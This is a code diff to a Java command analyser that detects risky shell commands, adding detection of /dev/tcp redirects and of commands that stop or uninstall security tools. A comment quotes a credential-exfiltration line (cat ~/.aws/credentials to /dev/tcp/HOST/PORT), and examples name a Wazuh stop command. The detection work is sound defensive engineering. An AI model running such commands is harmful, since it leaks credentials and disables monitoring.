@@ -296,6 +296,11 @@ final class CommandReader {
                 if (SHELLS.contains(c.program()) || c.program().equals("exec")) {
                     r.signals.add(Signal.REVERSE_SHELL);
                 }
+                if (redirect.writesFile()) {
+                    // bash(1) REDIRECTION: writing to /dev/tcp/HOST/PORT opens a connection and sends what the
+                    // command prints, like a network client (`cat ~/.aws/credentials > /dev/tcp/HOST/PORT`).
+                    r.sends = true;
+                }
             }
         }
         if (c.stdin() instanceof Input.File(Word path)) {
@@ -337,14 +342,10 @@ final class CommandReader {
         if (r.signals.contains(Signal.SECURITY_DISABLE)) {
             return;
         }
-        String written = c.programAsWritten();
-        if (written.indexOf('/') >= 0 && r.program.contains("uninstall")) {
-            for (String part : written.toLowerCase(java.util.Locale.ROOT).split("/")) {
-                if (SECURITY_UNITS.contains(part)) {
-                    r.signals.add(Signal.SECURITY_DISABLE);
-                    return;
-                }
-            }
+        if (isDefence(c.programAsWritten()) && (r.program.contains("uninstall") || firstWordTurnsOff(r))) {
+            // A defence's own uninstaller or control program told to stop (/var/ossec/bin/wazuh-control stop).
+            r.signals.add(Signal.SECURITY_DISABLE);
+            return;
         }
         if (!r.signals.contains(Signal.DESTROY) && !mayDisable(r)) {
             return; // the common case, decided without splitting any word
@@ -376,6 +377,37 @@ final class CommandReader {
         if (off && ((verb && defence) || r.args.stream().anyMatch(CommandReader::namesSecurityTool))) {
             r.signals.add(Signal.SECURITY_DISABLE);
         }
+    }
+
+    /**
+     * Whether a program is a defence's own: a directory of its path or a part of its name names a security tool or a
+     * logging daemon ({@code /usr/local/qcloud/stargate/admin/uninstall.sh}, {@code /var/ossec/bin/wazuh-control}).
+     */
+    private static boolean isDefence(String written) {
+        String lower = written.toLowerCase(java.util.Locale.ROOT);
+        if (!lower.contains("/") && !lower.contains("-") && !lower.contains("_")) {
+            return SECURITY_UNITS.contains(lower);
+        }
+        for (String dir : lower.split("/")) {
+            if (SECURITY_UNITS.contains(dir)) {
+                return true;
+            }
+        }
+        for (String part : WORD_PARTS.split(lower.substring(lower.lastIndexOf('/') + 1))) {
+            if (SECURITY_UNITS.contains(part)) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /** Whether the first word after the program stops, disables or uninstalls what it controls (not a rule's delete). */
+    private static boolean firstWordTurnsOff(Reading r) {
+        if (r.args.isEmpty() || r.args.getFirst().startsWith("-")) {
+            return false;
+        }
+        String first = r.args.getFirst().toLowerCase(java.util.Locale.ROOT);
+        return DISABLING_VERBS.contains(first) || first.equals("uninstall");
     }
 
     /** Cloud instance metadata services (AWS, GCP, Azure, Alibaba, OpenStack): link-local or their internal names. */
